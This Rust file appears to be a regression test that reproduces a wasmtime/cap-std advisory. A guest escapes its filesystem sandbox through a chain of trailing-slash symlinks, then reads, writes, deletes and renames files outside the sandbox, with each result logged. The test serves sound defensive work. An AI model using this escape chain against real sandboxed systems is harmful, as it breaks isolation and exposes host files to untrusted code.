//! RUSTSEC-2026-0269 (GHSA-vqjp-4c8c-hfgg, wasmtime; the bug is
//! cap-primitives' GHSA-hp8f-xmx4-4qrg): "Filesystem sandbox escape when
//! paths or symlinks contain trailing slashes". cap-std's fallback resolver
//! expanded `link1 -> "evil/"` and re-appended the slash to the last
//! component, so the OS followed `evil` (pointing outside) despite
//! `O_NOFOLLOW`. A guest with write access can build the chain itself; one
//! with read-only access can use a chain that already exists (the test plants
//! one in /sources/files).
use wport_hostile_guests::raw::*;
use wport_hostile_guests::*;

struct Guest;

fn through_chain(r: &mut Report, link1: &str) {
    list(r, link1);
    list(r, &format!("{link1}/"));
    r.io_with(
        format!("metadata {link1}/"),
        std::fs::metadata(format!("{link1}/")),
        describe,
    );
    r.io_with(
        format!("symlink_metadata {link1}/"),
        std::fs::symlink_metadata(format!("{link1}/")),
        describe,
    );
    r.io(
        format!("open(NOFOLLOW|DIRECTORY) {link1}/"),
        raw::open_flags(&format!("{link1}/"), O_RDONLY | O_DIRECTORY | O_NOFOLLOW),
    );
    read(r, &format!("{link1}/secret"));
}

impl Port for Guest {
    fn build() -> Result<()> {
        let mut r = Report::new();
        let victim = victim();
        r.io("create_dir /work/a", std::fs::create_dir("/work/a"));
        // Control: the same shape inside the sandbox resolves.
        r.io(
            "create_dir /work/a/inside",
            std::fs::create_dir("/work/a/inside"),
        );
        wasi_symlink(&mut r, "inside/", "/work/a/link_in");
        list(&mut r, "/work/a/link_in/");
        // The chain: link1 -> "evil/", evil -> <outside>.
        wasi_symlink(&mut r, &climb_target(&victim), "/work/a/evil");
        wasi_symlink(&mut r, "evil/", "/work/a/link1");
        through_chain(&mut r, "/work/a/link1");
        write(&mut r, "/work/a/link1/new");
        r.io(
            "create_dir /work/a/link1/newdir",
            std::fs::create_dir("/work/a/link1/newdir"),
        );
        r.io(
            "remove_file /work/a/link1/secret",
            std::fs::remove_file("/work/a/link1/secret"),
        );
        r.io(
            "rename /work/hello-1.0/README -> /work/a/link1/moved",
            std::fs::rename("/work/hello-1.0/README", "/work/a/link1/moved"),
        );
        // Read-only variant: a planted chain in /sources/files.
        through_chain(&mut r, "/sources/files/link1");
        r.finish()
    }
}

wport_guest_sdk::export_port!(Guest);
